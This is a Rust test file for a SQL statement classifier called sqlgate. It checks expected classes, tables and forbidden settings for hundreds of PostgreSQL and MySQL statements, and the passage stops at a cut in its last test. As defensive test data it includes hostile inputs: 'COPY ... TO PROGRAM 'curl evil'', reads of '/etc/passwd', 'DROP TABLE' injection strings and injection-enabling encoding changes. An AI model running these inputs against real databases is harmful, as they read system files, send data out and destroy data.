//! Table-driven classification cases: SQL → classes (the union over the
//! string's statements) and tables. `*` skips the table check.

use sqlgate::classify::{Class, ClassSet, Classifier, ClassifierOptions, Dialect};

const PG: Dialect = Dialect::Postgres;
const MY: Dialect = Dialect::Mysql;

/// (dialect, sql, classes, tables)
const CASES: &[(Dialect, &str, &str, &str)] = &[
    // --- read
    (
        PG,
        "SELECT abalance FROM pgbench_accounts WHERE aid = 1",
        "read",
        "pgbench_accounts",
    ),
    (
        PG,
        "select * from Public.Accounts a join \"Orders\" o on o.a = a.id",
        "read",
        "Orders,public.accounts",
    ),
    (PG, "SELECT 1", "read", ""),
    (PG, "VALUES (1, 'a'), (2, 'b')", "read", ""),
    (PG, "TABLE accounts", "read", "accounts"),
    (PG, "SHOW search_path", "read,session", ""),
    (PG, "EXPLAIN SELECT * FROM t", "read", "t"),
    (PG, "EXPLAIN DELETE FROM t", "read", "t"),
    (
        PG,
        "SELECT * FROM t WHERE id IN (SELECT id FROM u)",
        "read",
        "t,u",
    ),
    (
        PG,
        "SELECT count(*) FROM s.t GROUP BY 1 HAVING count(*) > 2",
        "read",
        "s.t",
    ),
    (PG, "SELECT * FROM generate_series(1, 10)", "read", ""),
    (
        PG,
        "WITH x AS (SELECT * FROM t) SELECT * FROM x",
        "read",
        "t",
    ),
    (
        PG,
        "SELECT a FROM t UNION SELECT b FROM u ORDER BY 1 LIMIT 5",
        "read",
        "t,u",
    ),
    (PG, "SELECT * FROM t WHERE data ? 'key'", "read", "t"),
    (PG, "SELECT now(), current_user", "read", ""),
    // Row locks are taken as an UPDATE would (third review).
    (PG, "SELECT * FROM t FOR UPDATE", "read,write", "t"),
    // --- look-alikes that must stay plain reads
    (PG, "SELECT 'DROP TABLE x'", "read", ""),
    (PG, "SELECT $$DELETE FROM t$$", "read", ""),
    (PG, "SELECT $tag$ pg_read_file('x') $tag$", "read", ""),
    (PG, "SELECT \"drop\" FROM t", "read", "t"),
    (PG, "SELECT 1 -- ; DROP TABLE x", "read", ""),
    (PG, "SELECT 1 /* ; DROP TABLE x; */", "read", ""),
    (PG, "SELECT 'a;b'", "read", ""),
    (
        PG,
        "SELECT grant_date, delete_flag FROM grants",
        "read",
        "grants",
    ),
    (PG, "SELECT 'it''s; DROP TABLE t'", "read", ""),
    // standard_conforming_strings: the backslash does not escape, so this
    // really is two statements, exactly as the server will run it.
    (
        PG,
        "SELECT 'a\\'; DROP TABLE t; --'",
        "read,ddl,destructive",
        "t",
    ),
    (PG, "SELECT E'\\'; DROP TABLE t; --'", "read", ""),
    (PG, "SELECT U&'d\\0061t\\+000061'", "read", ""),
    (PG, "SELECT \"a;b\" FROM \"x\"\"y\"", "read", "x\"y"),
    (PG, "SELECT $1, $2 FROM t", "read", "t"),
    (PG, "SELECT * FROM copy_log", "read", "copy_log"),
    (PG, "SELECT truncate_me FROM t", "read", "t"),
    // --- write
    (PG, "INSERT INTO t (a) VALUES (1)", "write", "t"),
    (PG, "INSERT INTO s.t SELECT * FROM u", "write", "s.t,u"),
    (
        PG,
        "UPDATE pgbench_accounts SET abalance = abalance + 5 WHERE aid = 7",
        "write",
        "pgbench_accounts",
    ),
    (PG, "DELETE FROM t WHERE id = 1", "write", "t"),
    (
        PG,
        "INSERT INTO t VALUES (1) ON CONFLICT (id) DO UPDATE SET a = 2",
        "write",
        "t",
    ),
    (
        PG,
        "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET a = s.a",
        "write",
        "s,t",
    ),
    (PG, "COPY t FROM STDIN", "write", "t"),
    (
        PG,
        "UPDATE t SET a = 1 FROM u WHERE t.id = u.id",
        "write",
        "t,u",
    ),
    (
        PG,
        "DELETE FROM t USING u WHERE t.id = u.id",
        "write",
        "t,u",
    ),
    (PG, "SELECT nextval('seq')", "read,write", ""),
    // ACCESS EXCLUSIVE stops every read of it: held as schema work.
    (PG, "LOCK TABLE t IN ACCESS EXCLUSIVE MODE", "write,ddl", "t"),
    // --- destructive
    (PG, "DELETE FROM t", "write,destructive", "t"),
    (PG, "DELETE FROM t WHERE 1=1", "write,destructive", "t"),
    (PG, "DELETE FROM t WHERE true", "write,destructive", "t"),
    (
        PG,
        "DELETE FROM t WHERE 'a' = 'a'",
        "write,destructive",
        "t",
    ),
    (PG, "DELETE FROM t WHERE id = id", "write,destructive", "t"),
    (
        PG,
        "DELETE FROM t WHERE id = 5 OR 1 = 1",
        "write,destructive",
        "t",
    ),
    (PG, "DELETE FROM t WHERE (2 > 1)", "write,destructive", "t"),
    (PG, "DELETE FROM t WHERE id = 5 AND 1 = 1", "write", "t"),
    (
        PG,
        "DELETE FROM t WHERE EXISTS (SELECT 1 FROM u)",
        "write,destructive",
        "t,u",
    ),
    (PG, "UPDATE t SET a = 1", "write,destructive", "t"),
    (
        PG,
        "UPDATE t SET a = 1 WHERE NOT false",
        "write,destructive",
        "t",
    ),
    (PG, "DROP TABLE t", "ddl,destructive", "t"),
    (
        PG,
        "DROP TABLE IF EXISTS a, b CASCADE",
        "ddl,destructive",
        "a,b",
    ),
    (PG, "DROP INDEX i", "ddl,destructive", ""),
    (PG, "DROP SCHEMA s CASCADE", "ddl,destructive", ""),
    (PG, "DROP FUNCTION f(int)", "ddl,destructive", ""),
    (PG, "TRUNCATE t", "ddl,destructive,write", "t"),
    (
        PG,
        "TRUNCATE TABLE a, b RESTART IDENTITY",
        "ddl,destructive,write",
        "a,b",
    ),
    (PG, "ALTER TABLE t DROP COLUMN c", "ddl,destructive", "t"),
    (PG, "ALTER TYPE mood ADD VALUE 'x'", "ddl", ""),
    (PG, "ALTER TABLE t ATTACH PARTITION t1 FOR VALUES IN (1)", "ddl", "t,t1"),
    (
        PG,
        "WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d",
        "read,write,destructive",
        "t",
    ),
    (
        PG,
        // The tag counts the outer SELECT: the row guard can't see the DELETE.
        "WITH d AS (DELETE FROM t WHERE id = 1 RETURNING *) SELECT * FROM d",
        "read,write,destructive",
        "t",
    ),
    // --- ddl
    (
        PG,
        "CREATE TABLE t (id int primary key, a text)",
        "ddl",
        "t",
    ),
    (PG, "CREATE TABLE t2 AS SELECT * FROM t", "read,write,ddl", "t,t2"),
    (
        PG,
        "SELECT * INTO newtable FROM t",
        "read,ddl,write",
        "newtable,t",
    ),
    (PG, "CREATE INDEX i ON t (a)", "ddl", "t"),
    (PG, "CREATE VIEW v AS SELECT * FROM t", "ddl", "t,v"),
    (PG, "ALTER TABLE t ADD COLUMN c int", "ddl", "t"),
    (PG, "ALTER TABLE t RENAME TO u", "ddl", "t"),
    (PG, "ALTER SCHEMA hr RENAME TO hr_archive", "ddl,privilege", ""),
    (PG, "CREATE OPERATOR ## (RIGHTARG = text, FUNCTION = pg_read_file)", "ddl,server_access", ""),
    (PG, "COMMENT ON TABLE t IS 'x'", "ddl", "*"),
    (PG, "CREATE SCHEMA s", "ddl", ""),
    (PG, "CREATE SEQUENCE seq", "ddl", "*"),
    (
        PG,
        "CREATE FUNCTION f() RETURNS int AS $$ SELECT 1 $$ LANGUAGE sql",
        // With what its body does (a read).
        "read,ddl",
        "*",
    ),
    (PG, "VACUUM (VERBOSE, ANALYZE) t", "ddl", "*"),
    (PG, "VACUUM t", "ddl", "*"),
    (PG, "REINDEX TABLE t", "ddl", "*"),
    (PG, "CLUSTER t USING i", "ddl", "*"),
    (PG, "REFRESH MATERIALIZED VIEW mv", "ddl,write", "*"),
    // --- privilege
    (
        PG,
        "GRANT SELECT ON accounts TO bob",
        "privilege",
        "accounts",
    ),
    (
        PG,
        "REVOKE ALL ON accounts FROM bob",
        "privilege",
        "accounts",
    ),
    (PG, "CREATE ROLE bob LOGIN PASSWORD 'x'", "privilege", ""),
    (PG, "CREATE USER bob", "privilege", ""),
    (PG, "ALTER ROLE bob SUPERUSER", "privilege", ""),
    (PG, "DROP ROLE bob", "privilege,destructive", ""),
    (PG, "SET ROLE admin", "privilege,session", ""),
    (
        PG,
        "SET SESSION AUTHORIZATION admin",
        "privilege,session",
        "",
    ),
        // Back to the upstream login, the agent's own baseline.
    (PG, "RESET ROLE", "session", ""),
    (
        PG,
        "ALTER DEFAULT PRIVILEGES IN SCHEMA s GRANT SELECT ON TABLES TO bob",
        "privilege,ddl",
        "",
    ),
    (PG, "ALTER TABLE t OWNER TO bob", "ddl,privilege", "t"),
    (
        PG,
        "SELECT set_config('role', 'admin', false)",
        "read,session,privilege",
        "",
    ),
    (
        PG,
        "SELECT pg_catalog.set_config('session_authorization', 'x', true)",
        "read,session,privilege",
        "",
    ),
    (PG, "REASSIGN OWNED BY a TO b", "privilege", ""),
    // --- export and server access
    (PG, "COPY t TO STDOUT", "export", "t"),
    (
        PG,
        "COPY (SELECT * FROM t) TO STDOUT WITH CSV",
        "export",
        "t",
    ),
    (PG, "COPY t TO '/tmp/x.csv'", "export,server_access", "t"),
    (PG, "COPY t FROM '/etc/passwd'", "write,server_access", "t"),
    (
        PG,
        "COPY t TO PROGRAM 'curl evil'",
        "export,server_access",
        "t",
    ),
    (PG, "COPY t FROM PROGRAM 'id'", "write,server_access", "t"),
    (
        PG,
        "SELECT pg_read_file('/etc/passwd')",
        "read,server_access",
        "",
    ),
    (
        PG,
        "SELECT PG_CATALOG.PG_READ_FILE('x')",
        "read,server_access",
        "",
    ),
    (
        PG,
        "SELECT pg_catalog.\"pg_read_binary_file\"('x')",
        "read,server_access",
        "",
    ),
    (PG, "SELECT * FROM pg_ls_dir('.')", "read,server_access", ""),
    (
        PG,
        "SELECT * FROM t WHERE a = (SELECT pg_stat_file('x'))",
        "read,server_access",
        "t",
    ),
    (
        PG,
        "SELECT lo_import('/etc/passwd')",
        "read,write,server_access",
        "",
    ),
    (
        PG,
        "SELECT lo_export(1, '/tmp/x')",
        "read,export,server_access",
        "",
    ),
    (
        PG,
        "SELECT * FROM dblink('host=x', 'select 1') AS t(a int)",
        "read,server_access",
        "",
    ),
    (
        PG,
        "SELECT dblink_exec('host=x', 'drop table t')",
        "read,server_access",
        "",
    ),
    (PG, "CREATE EXTENSION dblink", "ddl,server_access", ""),
    (
        PG,
        "ALTER SYSTEM SET work_mem = '1GB'",
        "ddl,server_access",
        "",
    ),
    (PG, "LOAD 'plugin'", "ddl,server_access", ""),
    (
        PG,
        "CREATE FUNCTION f() RETURNS int AS 'x' LANGUAGE plpython3u",
        "ddl,server_access",
        "*",
    ),
    (
        PG,
        "SELECT pg_terminate_backend(42)",
        "read,server_access",
        "",
    ),
    // --- session
    (PG, "SET search_path = public", "session", ""),
    (PG, "SET statement_timeout TO '5s'", "session", ""),
    (PG, "RESET search_path", "session", ""),
    // DISCARD ALL returns to the login's baseline, like RESET ROLE.
    (PG, "DISCARD ALL", "session", ""),
    (PG, "DISCARD PLANS", "session", ""),
    (PG, "DISCARD SEQUENCES", "session", ""),
    (PG, "DISCARD TEMP", "session", ""),
    (PG, "LISTEN ch", "session", ""),
    (PG, "NOTIFY ch, 'x'", "session", ""),
    (PG, "UNLISTEN *", "session", ""),
    (
        PG,
        "PREPARE p AS SELECT * FROM t WHERE id = $1",
        "session,read",
        "t",
    ),
    (
        PG,
        "PREPARE p (int) AS DELETE FROM t",
        "session,write,destructive",
        "t",
    ),
    (PG, "DEALLOCATE p", "session", ""),
    (PG, "EXECUTE p(1)", "session,unparsed", ""),
    (
        PG,
        "SELECT set_config('search_path', 'x', false)",
        "read,session",
        "",
    ),
    // --- transaction
    (PG, "BEGIN", "transaction", ""),
    (
        PG,
        "START TRANSACTION ISOLATION LEVEL SERIALIZABLE",
        "transaction",
        "",
    ),
    (PG, "COMMIT", "transaction", ""),
    (PG, "ROLLBACK", "transaction", ""),
    (PG, "SAVEPOINT s1", "transaction", ""),
    (PG, "RELEASE SAVEPOINT s1", "transaction", ""),
    (PG, "ROLLBACK TO SAVEPOINT s1", "transaction", ""),
    // Two-phase commit outlives the session and settles any session's work.
    (PG, "PREPARE TRANSACTION 'x'", "transaction,destructive", ""),
    (PG, "COMMIT PREPARED 'x'", "transaction,destructive", ""),
    (PG, "ROLLBACK PREPARED 'x'", "transaction,destructive", ""),
    (PG, "commit prepared 'x'", "transaction,destructive", ""),
    (PG, "COMMIT AND CHAIN", "transaction", ""),
    (
        PG,
        "SET TRANSACTION ISOLATION LEVEL READ COMMITTED",
        "transaction",
        "",
    ),
    // --- wrappers
    (
        PG,
        "EXPLAIN ANALYZE DELETE FROM t",
        "write,destructive",
        "t",
    ),
    (PG, "EXPLAIN ANALYZE SELECT * FROM t", "read", "t"),
    (
        PG,
        // The answer is a plan, not a row count: the row guard can't see it.
        "EXPLAIN (ANALYZE) UPDATE t SET a = 1 WHERE id = 2",
        "write,destructive",
        "t",
    ),
    (
        PG,
        "WITH i AS (INSERT INTO t VALUES (1) RETURNING id) SELECT * FROM i",
        "read,write",
        "t",
    ),
    (
        PG,
        "DO $$ BEGIN PERFORM 1; END $$",
        "unparsed,write,ddl,privilege,server_access",
        "",
    ),
    (PG, "CALL proc(1)", "write,unparsed", ""),
    // --- not read: every class (PostgreSQL has no keyword fallback)
    (PG, "SELEKT * FROM t", "all", ""),
    (PG, "SELECT 'abc", "all", ""),
    (
        PG,
        "SELECT * FROM t WHERE a = /* unterminated",
        "all",
        "",
    ),
    (PG, "SELECT (((", "all", ""),
    (
        PG,
        "FROBNICATE pg_read_file('x')",
        "all",
        "",
    ),
    (PG, "GRANT weird syntax here", "all", ""),
    (
        PG,
        "CREATE USER MAPPING FOR bob SERVER s OPTIONS (user 'x')",
        "privilege,ddl",
        "*",
    ),
    (PG, "DROP OWNED BY bob", "privilege,destructive", ""),
    // --- multi-statement
    (PG, "SELECT 1; DROP TABLE t", "read,ddl,destructive", "t"),
    (
        PG,
        "BEGIN; UPDATE t SET a = 1 WHERE id = 1; COMMIT;",
        "transaction,write",
        "t",
    ),
    (PG, "SELECT 'a;b'; SELECT $$;$$", "read", ""),
    // --- MySQL
    (MY, "SELECT * FROM `Orders` WHERE id = 1", "read", "Orders"),
    (MY, "SELECT 'a\\'; DROP TABLE t; -- '", "read", ""),
    (MY, "SELECT \"DROP TABLE t\"", "read", ""),
    (MY, "SELECT 1 # ; DROP TABLE t", "read", ""),
    (
        MY,
        "SELECT 1 /*! ; DROP TABLE t */",
        "ddl,destructive,unparsed",
        "*",
    ),
    (
        MY,
        "SELECT * FROM t INTO OUTFILE '/tmp/x'",
        "export,server_access,unparsed",
        "*",
    ),
    (
        MY,
        "LOAD DATA INFILE '/etc/passwd' INTO TABLE t",
        "write,server_access",
        "*",
    ),
    (MY, "CREATE USER 'u'@'h' IDENTIFIED BY 'p'", "privilege", ""),
    (MY, "DELETE FROM t WHERE 1", "write,destructive", "t"),
    (MY, "REPLACE INTO t VALUES (1)", "write", "t"),
    (MY, "SHOW TABLES", "read", ""),
    (
        MY,
        "SELECT LOAD_FILE('/etc/passwd')",
        "read,server_access",
        "",
    ),
    (MY, "PREPARE s FROM 'DELETE FROM t'", "session,unparsed", ""),
    (MY, "USE db", "session", ""),
    (MY, "SET autocommit = 0", "session", ""),
    (MY, "XA START 'x'", "transaction", ""),
    (MY, "XA END 'x'", "transaction", ""),
    (MY, "XA PREPARE 'x'", "transaction,destructive", ""),
    (MY, "XA COMMIT 'x'", "transaction,destructive", ""),
    (MY, "XA ROLLBACK 'x'", "transaction,destructive", ""),
    // --- MERGE with a DELETE action may remove every matched row
    (
        PG,
        "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE",
        "write,destructive",
        "s,t",
    ),
    (
        PG,
        "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED AND s.gone THEN DELETE \
         WHEN MATCHED THEN UPDATE SET a = s.a WHEN NOT MATCHED THEN INSERT VALUES (s.id)",
        "write,destructive",
        "s,t",
    ),
    (
        PG,
        "MERGE INTO t USING s ON t.id = s.id WHEN NOT MATCHED BY SOURCE THEN DELETE",
        "write,destructive",
        "s,t",
    ),
    (
        PG,
        "MERGE INTO t USING s ON t.id = s.id WHEN NOT MATCHED THEN INSERT VALUES (s.id)",
        "write",
        "s,t",
    ),
    (
        PG,
        "WITH m AS (SELECT 1) MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE",
        "read,write,destructive",
        "s,t",
    ),
    // --- PostgreSQL-only relation syntax must report the real table
    (PG, "SELECT * FROM ONLY secrets", "read", "secrets"),
    (PG, "SELECT * FROM only Secrets s", "read", "secrets"),
    (PG, "SELECT * FROM ONLY public.secrets s", "read", "public.secrets"),
    (PG, "SELECT * FROM ONLY \"secrets\"", "read", "secrets"),
    (
        PG,
        "UPDATE ONLY secrets SET a = 1 WHERE id = 2",
        "write",
        "secrets",
    ),
    (
        PG,
        "DELETE FROM ONLY secrets WHERE id = 1",
        "write",
        "secrets",
    ),
    (PG, "DELETE FROM ONLY secrets", "write,destructive", "secrets"),
    (PG, "TRUNCATE ONLY secrets", "ddl,destructive,write", "secrets"),
    (
        PG,
        "TRUNCATE TABLE a, ONLY secrets",
        "ddl,destructive,write",
        "a,secrets",
    ),
    (PG, "LOCK TABLE ONLY secrets", "write,ddl", "secrets"),
    (PG, "LOCK ONLY secrets IN SHARE MODE", "write", "secrets"),
    (
        PG,
        "ALTER TABLE ONLY secrets ADD COLUMN c int",
        "ddl",
        "secrets",
    ),
    (
        PG,
        "ALTER TABLE IF EXISTS ONLY secrets DROP COLUMN c",
        "ddl,destructive",
        "secrets",
    ),
    (PG, "SELECT * FROM a, ONLY secrets", "read", "a,secrets"),
    (
        PG,
        "SELECT * FROM a JOIN ONLY secrets ON true",
        "read",
        "a,secrets",
    ),
    (
        PG,
        "SELECT * FROM a LEFT JOIN ONLY secrets USING (id)",
        "read",
        "a,secrets",
    ),
    (PG, "SELECT * FROM ONLY (secrets)", "read", "secrets"),
    (
        PG,
        "UPDATE t SET a = 1 FROM ONLY secrets WHERE t.id = secrets.id",
        "write",
        "secrets,t",
    ),
    (
        PG,
        "DELETE FROM t USING ONLY secrets WHERE t.id = secrets.id",
        "write",
        "secrets,t",
    ),
    (
        PG,
        "MERGE INTO ONLY secrets USING s ON secrets.id = s.id WHEN MATCHED THEN UPDATE SET a = 1",
        "write",
        "s,secrets",
    ),
    (
        PG,
        "MERGE INTO t USING ONLY secrets ON t.id = secrets.id WHEN MATCHED THEN UPDATE SET a = 1",
        "write",
        "secrets,t",
    ),
    (PG, "CREATE INDEX ON ONLY secrets (a)", "ddl", "secrets"),
    (PG, "SELECT * FROM secrets *", "read", "secrets"),
    (PG, "SELECT * FROM a, secrets * WHERE true", "read", "a,secrets"),
    (PG, "SELECT * FROM ONLY a, secrets * AS s", "read", "a,secrets"),
    (
        PG,
        "UPDATE secrets * SET a = 1 WHERE id = 1",
        "write",
        "secrets",
    ),
    (
        PG,
        "DELETE FROM secrets * WHERE id = 1",
        "write",
        "secrets",
    ),
    // An alias right after `*` is not read: unparsed, which is safe.
    (PG, "SELECT * FROM secrets * s", "read", "secrets"),
    // `ONLY` and `*` elsewhere are left alone.
    (
        PG,
        "SELECT * FROM secrets FETCH FIRST 1 ROWS ONLY",
        "read",
        "secrets",
    ),
    (
        PG,
        "SELECT a, b * c, substring(s FROM pos * 2) FROM t",
        "read",
        "t",
    ),
    (PG, "SELECT 'FROM ONLY x', \"only\" FROM t", "read", "t"),
    (
        PG,
        "SET TRANSACTION ISOLATION LEVEL SERIALIZABLE, READ ONLY",
        "transaction",
        "",
    ),
    // Other PostgreSQL syntax around a table name.
    (PG, "SELECT * FROM secrets AS s(a, b)", "read", "secrets"),
    (
        PG,
        "SELECT * FROM secrets TABLESAMPLE SYSTEM (10)",
        "read",
        "secrets",
    ),
    (
        PG,
        "SELECT * FROM secrets TABLESAMPLE BERNOULLI (10) REPEATABLE (1)",
        "read",
        "secrets",
    ),
    (
        PG,
        "SELECT * FROM a, LATERAL (SELECT * FROM secrets WHERE secrets.id = a.id) x",
        "read",
        "a,secrets",
    ),
    (
        PG,
        "SELECT * FROM ROWS FROM (generate_series(1, 2)) x",
        "read",
        "",
    ),
    (
        PG,
        "SELECT * FROM unnest(ARRAY[1]) WITH ORDINALITY",
        "read",
        "",
    ),
    (
        PG,
        "SELECT * FROM \"hr\".\"secrets\"",
        "read",
        "hr.secrets",
    ),
    (PG, "SELECT * FROM \"SECRETS\"", "read", "SECRETS"),
    (
        PG,
        "UPDATE secrets s SET a = 1 WHERE s.id = 1",
        "write",
        "secrets",
    ),
    (
        PG,
        "DELETE FROM secrets s USING other o WHERE s.id = o.id",
        "write",
        "other,secrets",
    ),
    (
        PG,
        "INSERT INTO secrets AS s VALUES (1) ON CONFLICT (id) DO UPDATE SET a = s.a",
        "write",
        "secrets",
    ),
    (PG, "INSERT INTO secrets DEFAULT VALUES", "write", "secrets"),
    (PG, "COPY secrets (a) FROM STDIN", "write", "secrets"),
    (PG, "COPY secrets (a, b) TO STDOUT", "export", "secrets"),
    // FOR UPDATE OF names a FROM item, not another table.
    (
        PG,
        "SELECT * FROM secrets FOR UPDATE OF secrets",
        "read,write",
        "secrets",
    ),
    (
        PG,
        "SELECT * FROM (secrets JOIN x USING (id))",
        "read",
        "secrets,x",
    ),
    (
        PG,
        "SELECT * FROM XMLTABLE('/a' PASSING (SELECT x FROM secrets) COLUMNS a int)",
        "read",
        "secrets",
    ),
    // --- CTE names hide a table only inside their own scope
    (
        PG,
        "WITH secrets AS (SELECT 1) DELETE FROM secrets",
        "read,write,destructive",
        "secrets",
    ),
    (
        PG,
        "WITH secrets AS (SELECT 1) UPDATE secrets SET a = 1 WHERE id = 1",
        "read,write",
        "secrets",
    ),
    (
        PG,
        "WITH secrets AS (SELECT 1) INSERT INTO secrets SELECT * FROM secrets",
        "read,write",
        "secrets",
    ),
    (
        PG,
        "WITH secrets AS (SELECT 1) MERGE INTO secrets USING s ON true WHEN MATCHED THEN UPDATE SET a = 1",
        "read,write",
        "s,secrets",
    ),
    (
        PG,
        "WITH secrets AS (SELECT * FROM secrets) SELECT * FROM secrets",
        "read",
        "secrets",
    ),
    (
        PG,
        "SELECT * FROM secrets UNION ALL (WITH secrets AS (SELECT 1) SELECT * FROM secrets)",
        "read",
        "secrets",
    ),
    (
        PG,
        "WITH a AS (SELECT * FROM secrets), secrets AS (SELECT 1) SELECT * FROM a",
        "read",
        "secrets",
    ),
    (
        PG,
        "WITH x AS (SELECT 1), y AS (SELECT * FROM x) SELECT * FROM y, secrets",
        "read",
        "secrets",
    ),
    (
        PG,
        "WITH x AS (SELECT 1) SELECT * FROM t WHERE id IN (SELECT * FROM x)",
        "read",
        "t",
    ),
    (
        PG,
        "WITH RECURSIVE r AS (SELECT 1 UNION ALL SELECT * FROM r) SELECT * FROM r",
        "read",
        "",
    ),
];

fn classes(spec: &str) -> ClassSet {
    if spec == "all" {
        return ClassSet::of(&Class::ALL);
    }
    ClassSet::of(
        &spec
            .split(',')
            .filter(|s| !s.is_empty())
            .map(|s| Class::parse(s).unwrap_or_else(|| panic!("bad class {s}")))
            .collect::<Vec<_>>(),
    )
}

#[test]
fn cases() {
    assert!(CASES.len() >= 200, "{} cases", CASES.len());
    let pg = Classifier::new(PG, ClassifierOptions::default());
    let my = Classifier::new(MY, ClassifierOptions::default());
    let mut failures = Vec::new();
    for (d, sql, want, want_tables) in CASES {
        let a = if *d == PG {
            pg.classify(sql)
        } else {
            my.classify(sql)
        };
        let got = a
            .statements
            .iter()
            .fold(ClassSet::EMPTY, |c, s| c.union(s.classes));
        let mut tables: Vec<&str> = a
            .statements
            .iter()
            .flat_map(|s| s.tables.iter().map(|t| t.as_str()))
            .collect();
        tables.sort();
        tables.dedup();
        let tables = tables.join(",");
        if got != classes(want) || (*want_tables != "*" && tables != *want_tables) {
            failures.push(format!(
                "{sql}\n    want {:?} [{want_tables}]\n    got  {got:?} [{tables}]  notes {:?}",
                classes(want),
                a.statements
                    .iter()
                    .map(|s| s.note.clone())
                    .collect::<Vec<_>>()
            ));
        }
    }
    assert!(
        failures.is_empty(),
        "{} failures:\n{}",
        failures.len(),
        failures.join("\n")
    );
}

/// (dialect, sql, forbidden?)
const FORBIDDEN: &[(Dialect, &str, bool)] = &[
    (PG, "SET standard_conforming_strings = off", true),
    (PG, "SET SESSION standard_conforming_strings TO 'off'", true),
    (PG, "SET standard_conforming_strings = on", false),
    (PG, "SET LOCAL standard_conforming_strings = default", false),
    (PG, "SET client_encoding = 'SJIS'", true),
    (PG, "SET client_encoding TO 'UTF8'", false),
    (PG, "SET NAMES 'GBK'", true),
    (PG, "SET NAMES 'utf-8'", false),
    (PG, "SET backslash_quote = on", true),
    (
        PG,
        "SELECT set_config('standard_conforming_strings', 'off', false)",
        true,
    ),
    (
        PG,
        "SELECT set_config('client_encoding', 'BIG5', false)",
        true,
    ),
    (
        PG,
        "SELECT set_config('client_encoding', 'UTF8', false)",
        false,
    ),
    (PG, "SELECT set_config(name, 'off', false) FROM t", true),
    (
        PG,
        "UPDATE pg_settings SET setting = 'off' WHERE name = 'standard_conforming_strings'",
        true,
    ),
    (
        PG,
        "BEGIN; SET standard_conforming_strings = off; SELECT 1",
        true,
    ),
    (PG, "SELECT 'SET standard_conforming_strings = off'", false),
    (MY, "SET NAMES gbk", true),
    (MY, "SET NAMES utf8mb4", false),
    (MY, "SET CHARACTER SET sjis", true),
    (MY, "SET character_set_client = 'big5'", true),
    (MY, "SET sql_mode = 'ANSI_QUOTES'", true),
    (
        MY,
        "SET SESSION sql_mode = 'STRICT_TRANS_TABLES,NO_BACKSLASH_ESCAPES'",
        true,
    ),
    (MY, "SET @@sql_mode = 'ANSI'", true),
    (MY, "SET sql_mode = 'STRICT_TRANS_TABLES'", false),
];

#[test]
fn forbidden_settings() {
    let pg = Classifier::new(PG, ClassifierOptions::default());
    let my = Classifier::new(MY, ClassifierOptions::default());
    for (d, sql, want) in FORBIDDEN {
        // Twice: the second call must not be answered from a cache entry
        // created by a harmless twin with the same fingerprint.
        for _ in 0..2 {
            let a = if *d == PG {
                pg.classify(sql)
            } else {
                my.classify(sql)
            };
            let got = a.statements.iter().any(|s| s.forbidden.is_some());
            assert_eq!(got, *want, "{sql}: {a:?}");
        }
    }
    // Same fingerprint, different verdicts.
    assert!(pg.classify("SET client_encoding = 'UTF8'").statements[0]
        .forbidden
        .is_none());
    assert!(pg.classify("SET client_encoding = 'SJIS'").statements[0]
        .forbidden
        .is_some());
    assert!(pg.classify("SET client_encoding = 'UTF8'").statements[0]
        .forbidden
        .is_none());
}

#[test]
fn set_config_role_is_never_served_from_cache() {
    let pg = Classifier::new(PG, ClassifierOptions::default());
    let a = pg.classify("SELECT set_config('search_path', 'x', false)");
    assert!(!a.statements[0].classes.contains(Class::Privilege));
    let b = pg.classify("SELECT set_config('role', 'x', false)");
    assert!(b.statements[0].classes.contains(Class::Privilege));
}

#[test]
fn cache_hits_across_literals() {
    let c = Classifier::new(PG, ClassifierOptions::default());
    let a = c.classify("SELECT * FROM t WHERE id = 1");
    let b = c.classify("SELECT * FROM t WHERE id = 2");
    assert_eq!(c.cache_stats(), (1, 1));
    assert!(std::sync::Arc::ptr_eq(&a, &b));
    assert_eq!(a.statements[0].fingerprint, "select * from t where id = ?");
    assert_eq!(a.statements[0].command, "SELECT");
}

/// Statements with the table `secrets` in table position, in every
/// PostgreSQL spelling we know of: each must report it (or be `unparsed`,
/// which the default rules hold), never hide it behind another name.
const SECRETS_IN_TABLE_POSITION: &[&str] = &[
    "SELECT * FROM secrets",
    "SELECT * FROM ONLY secrets",
    "SELECT * FROM ONLY (secrets)",
    "SELECT * FROM secrets *",
    "SELECT * FROM secrets * s",
    "SELECT * FROM a, ONLY secrets",
    "SELECT * FROM a JOIN ONLY secrets ON true",
    "SELECT * FROM a NATURAL JOIN secrets",
    "SELECT * FROM secrets AS s(a, b)",
    "SELECT * FROM secrets TABLESAMPLE SYSTEM (1)",
    "SELECT * FROM a, LATERAL (SELECT * FROM secrets) x",
    "SELECT * FROM (secrets)",
    "SELECT * FROM (SELECT * FROM secrets) s",
    "SELECT (SELECT max(a) FROM secrets)",
    "SELECT * FROM t WHERE EXISTS (SELECT 1 FROM ONLY secrets)",
    "SELECT * FROM secrets FOR UPDATE OF secrets",
    "UPDATE ONLY secrets SET a = 1",
    "UPDATE secrets * SET a = 1",
    "UPDATE secrets s SET a = 1",
    "UPDATE t SET a = 1 FROM ONLY secrets",
    "DELETE FROM ONLY secrets",
    "DELETE FROM secrets *",
    "DELETE FROM t USING ONLY secrets",
    "DELETE FROM secrets USING other",
    "INSERT INTO secrets AS s VALUES (1) ON CONFLICT (id) DO UPDATE SET a = 2",
    "INSERT INTO t SELECT * FROM ONLY secrets",
    "MERGE INTO ONLY secrets USING s ON true WHEN MATCHED THEN DELETE",
    "MERGE INTO t USING ONLY secrets ON true WHEN MATCHED THEN DELETE",
    "TRUNCATE ONLY secrets",
    "TRUNCATE TABLE ONLY secrets",
    "TRUNCATE a, ONLY secrets",
    "LOCK TABLE ONLY secrets",
    "LOCK ONLY secrets",
    "ALTER TABLE ONLY secrets ADD COLUMN c int",
    "ALTER TABLE IF EXISTS ONLY secrets ADD COLUMN c int",
    "CREATE INDEX ON ONLY secrets (a)",
    "COPY secrets (a) FROM STDIN",
    "COPY (SELECT * FROM ONLY secrets) TO STDOUT",
    "EXPLAIN SELECT * FROM ONLY secrets",
    "GRANT SELECT ON secrets TO bob",
    "DROP TABLE secrets",
    "WITH secrets AS (SELECT 1) DELETE FROM secrets",
    "WITH secrets AS (SELECT * FROM secrets) SELECT * FROM secrets",
    "WITH s AS (SELECT 1) SELECT * FROM ONLY secrets, s",
    "SELECT * FROM secrets UNION (WITH secrets AS (SELECT 1) SELECT * FROM secrets)",
    "PREPARE p AS SELECT * FROM ONLY secrets",
];

#[test]
fn secrets_in_table_position_is_always_reported() {
